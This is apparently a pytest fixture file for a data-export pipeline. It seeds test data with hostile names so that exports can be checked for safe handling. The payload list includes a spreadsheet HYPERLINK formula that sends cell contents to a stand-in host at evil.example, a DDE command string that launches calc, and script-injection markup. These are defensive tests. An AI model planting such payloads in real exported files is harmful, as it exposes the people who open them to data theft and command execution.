"""Homes to export: one whose documents are hostile, one whose notes fill most tables; and each exported once, in all formats."""

import json
from types import SimpleNamespace

import pytest

from pipelines.export.files import export
from pipelines.fetch.collect import collect_targets
from pipelines.settings import load_settings
from pipelines.warehouse import stages, store
from tests.warehouse.home import Home

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open") & Co'
SCRIPT = "</data><script>alert('x')</script> & <b>"
TURNED = "Ada ‮evil‬ Ltd"
BROKEN = 'Line one\r\nline "two",\x0b three\ttab \\ end'
MINUS = "-1+cmd|' /C calc'!A0"
LONG = "Long" + " and longer" * 4_000
HOSTILE = (
    FORMULA,
    SCRIPT,
    TURNED,
    BROKEN,
    MINUS,
    LONG,
    "@SUM(1)",
    "＝1+1",
    "'=quoted",
    "日本電産 ÅÖ 🏭",
    "_x0041_",
    "NULL",
    "",
)
NOTES = {
    "acme.md": "---\ntopic: Lumentum\nauthor: A\npublished: 2024-03-01\n---\n"
    "In fiscal year 2024, Customer A represented 14% of Lumentum's revenue.\n\n"
    "Lumentum may be limited by a shortage of lasers.\n\nLumentum depends on Fabrinet as its sole source of assembly.\n",
    "other.md": "---\ntopic: Super Micro Computer\nauthor: B\npublished: 2025-05-01\n---\n"
    "In fiscal year 2025, no customer accounted for 10% or more of Super Micro Computer's revenue.\n\n"
    "NVIDIA supplies Dell with boards.\n\nNVIDIA is limited by shortages of lasers and of HBM.\n",
}


@pytest.fixture(scope="session")
def hostile(tmp_path_factory):
    """Three publications whose parties have names that mean to break what reads them; two documents change, one comes."""
    home = Home(load_settings(tmp_path_factory.mktemp("hostile") / "home", {"LOADPATH_JOBS": "1"}))
    home.put("a", [(name, "Dell") for name in HOSTILE if name])
    home.publish()
    home.put("b", [("NVIDIA", "Dell"), ("TSMC", "NVIDIA"), ("NVIDIA", FORMULA)], day=2)
    home.publish()
    home.put("a", [(name, "Dell") for name in HOSTILE[:5]] + [("TSMC", "AMD")], day=3)
    home.put("c", [(name, "NVIDIA") for name in HOSTILE if name], day=4)
    home.publish()
    return home


@pytest.fixture(scope="session")
def market(tmp_path_factory):
    home = tmp_path_factory.mktemp("market")
    for name, text in NOTES.items():
        (home / name).write_text(text, encoding="utf-8")
    settings = load_settings(home / "home", {"LOADPATH_JOBS": "1"})
    collect_targets([str(home / name) for name in NOTES], settings, publisher="Example Research")
    stages.read_documents(settings)
    stages.read_claims(settings)
    stages.build_core(settings)
    stages.build_marts(settings)
    return settings


@pytest.fixture(scope="session", params=["hostile", "market"])
def exported(request, tmp_path_factory):
    """Each home's export in all formats: its settings, the folder, and the warehouse's rows by ``rows(sql)``."""
    made = request.getfixturevalue(request.param)
    settings = made.settings if isinstance(made, Home) else made
    folder = tmp_path_factory.mktemp(request.param) / "desk"
    written = export(settings, folder)

    def rows(sql):
        with store.connection(settings.warehouse) as con:
            return store.rows(con, sql)

    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    return SimpleNamespace(settings=settings, folder=folder, rows=rows, manifest=manifest, written=written)
